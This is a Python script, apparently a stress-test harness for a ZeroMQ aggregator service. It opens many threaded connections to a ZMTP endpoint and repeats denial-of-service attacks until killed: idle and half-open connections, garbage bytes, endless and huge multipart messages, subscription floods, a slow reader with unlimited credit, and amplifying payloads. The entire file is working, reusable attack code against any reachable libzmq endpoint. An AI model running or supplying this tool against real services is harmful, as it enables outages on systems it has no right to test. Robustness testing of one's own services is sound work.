"""attacker.py KIND ENDPOINT COUNT: a hostile process of its own, which says `ready` and goes on until it is killed. It is
nice: what it needs of the processor is that of another machine."""
import os
import random
import socket
import struct
import sys
import threading
import time

GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00NULL" + bytes(16) + b"\x00" + bytes(31)
READY = b"\x05READY\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER\x08Identity" + struct.pack(">I", 0)
SHAKEN = GREETING + b"\x04" + bytes([len(READY)]) + READY


def connect(endpoint, shaken=SHAKEN):
    """A connection that has said its part of the handshake."""
    host, port = endpoint.removeprefix("tcp://").split(":")
    raw = socket.create_connection((host, int(port)), timeout=10)
    raw.sendall(shaken)
    return raw


def through(endpoint):
    """A connection that is let in: what comes before libzmq has said its part, too, is no message to it."""
    raw = connect(endpoint)
    left = len(SHAKEN)
    while left:
        left -= len(raw.recv(left)) or left
    return raw


def frame(body, more=False):
    return bytes([more | 2 * (len(body) > 255)]) + (struct.pack(">Q", len(body)) if len(body) > 255 else bytes([len(body)])) + body


def again_and_again(attack):
    """Until it is killed, also when the connection is cut."""
    def run():
        while True:
            try:
                attack()
            except OSError:
                time.sleep(0.5 + random.random())
    return run


def idle(endpoint):
    raw = through(endpoint)
    while raw.recv(65536):  # also the aggregator's heartbeats, which stay without an answer
        pass
    raise OSError


def half_open(endpoint):
    raw = connect(endpoint, GREETING[:20])
    while raw.recv(65536):
        pass
    raise OSError


def garbage(endpoint):
    before = random.random() < 0.5
    raw = connect(endpoint, b"") if before else through(endpoint)
    raw.sendall(random.randbytes(random.randrange(100, 20000)))
    raw.close()
    time.sleep(0.005)


def endless(endpoint, body):
    """A message without an end."""
    raw = through(endpoint)
    piece = frame(body, more=True) * (1 + (1 << 18) // (len(body) + 2))
    while True:
        raw.sendall(piece)


def many_frames(endpoint):
    raw = through(endpoint)
    raw.sendall(frame(b"\x01\x03", more=True) + frame(bytes(1600), more=True) * 199998 + frame(b""))
    raw.recv(1)
    raw.close()


def many_subscriptions(endpoint):
    """Each connection subscribes to everything, 50,000 times."""
    raw = through(endpoint)
    for number in range(1, 50001):
        varint = bytes([number & 127 | 128, number >> 7 & 127 | 128, number >> 14])
        raw.sendall(frame(b"\x01\x10", more=True) + frame(b"\x08" + varint + b"\x20\x05"))
    while raw.recv(65536):
        pass
    raise OSError


def deaf(endpoint):
    """Asks for everything under endless credit, and reads nothing."""
    raw = through(endpoint)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    for number in range(1, 100):
        raw.sendall(frame(b"\x01\x10", more=True) + frame(b"\x08" + bytes([number]) + b"\x20\xff\xff\xff\xff\x0f"))
    while True:
        time.sleep(1)
        raw.sendall(frame(b"\x01\x11", more=True) + frame(b"\x08\x01\x10\x01"))


def amplifier(endpoint):
    """The largest bodies that decode to most."""
    raw = through(endpoint)
    hello = b"\x0a\x01a\x11" + b"\x01" * 8 + b"\x18\x01"
    raw.sendall(frame(b"\x01\x01", more=True) + frame(hello))
    body = b"\x09" + b"\x01" * 8 + b"\x10\x01" + b"\x1a\x00" * 131000
    while True:
        raw.sendall(frame(b"\x01\x03", more=True) + frame(body))
        time.sleep(0.01)


KINDS = {
    "idle": idle, "half_open": half_open, "garbage": garbage, "endless": lambda endpoint: endless(endpoint, b""),
    "endless_large": lambda endpoint: endless(endpoint, bytes(1600)), "many_frames": many_frames,
    "many_subscriptions": many_subscriptions, "deaf": deaf, "amplifier": amplifier,
}


def main():
    os.nice(19)
    threading.stack_size(1 << 17)
    kind, endpoint, count = sys.argv[1:]
    for _ in range(int(count)):
        threading.Thread(target=again_and_again(lambda: KINDS[kind](endpoint)), daemon=True).start()
    print("ready", flush=True)
    while True:
        time.sleep(60)


if __name__ == "__main__":
    main()
